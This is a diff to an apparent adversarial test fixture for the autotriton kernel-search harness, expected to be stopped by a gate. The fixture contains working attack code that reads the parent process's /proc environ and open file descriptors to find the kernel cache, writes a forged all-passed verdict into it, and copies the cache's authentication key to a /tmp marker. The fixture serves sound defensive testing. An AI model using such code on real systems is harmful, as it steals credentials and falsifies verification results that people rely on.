@@ -1,8 +1,9 @@
 # task: task_add_relu
 # expect: gate
 # effect: /tmp/autotriton-attack-cache-key
-# Planting a "winner" in the user's kernel cache: the cache directory is found from the environment
-# (or the parent process's /proc/PID/environ), an entry with a forged all-passed verdict and this
+# Planting a "winner" in the user's kernel cache: the cache directory is found from the environment,
+# the parent process's /proc/PID/environ, or the cache database the parent holds open
+# (/proc/PID/fd/*, as a backend process does while it searches); an entry with a forged all-passed verdict and this
 # source is written with the project's own cache code, and any file that looks like the cache's
 # authentication key is copied to the marker. Never touches a cache it cannot name exactly.
 import torch
@@ -46,6 +47,18 @@ def parent_environment(os):
     return found
 
 
+def open_cache_directory(os):
+    folder = "/proc/%d/fd" % os.getppid()
+    try:
+        for name in os.listdir(folder):
+            target = os.readlink(folder + "/" + name)
+            if target.endswith("/cache.db"):
+                return target.rsplit("/", 1)[0]
+    except Exception:
+        pass
+    return None
+
+
 def steal_key(os, environ, directory):
     home = environ.get("HOME", "/nonexistent")
     places = [environ.get("AUTOTRITON_CACHE_KEY", ""), environ.get("AUTOTRITON_KEY_FILE", "")]
@@ -71,7 +84,7 @@ def plant():
     os = IMPORT("os")
     environ = dict(parent_environment(os))
     environ.update(os.environ)
-    directory = environ.get("AUTOTRITON_CACHE_DIR")
+    directory = environ.get("AUTOTRITON_CACHE_DIR") or open_cache_directory(os)
     if not directory:
         return  # never guess: the user's real cache must stay untouched by a test
     steal_key(os, environ, directory)
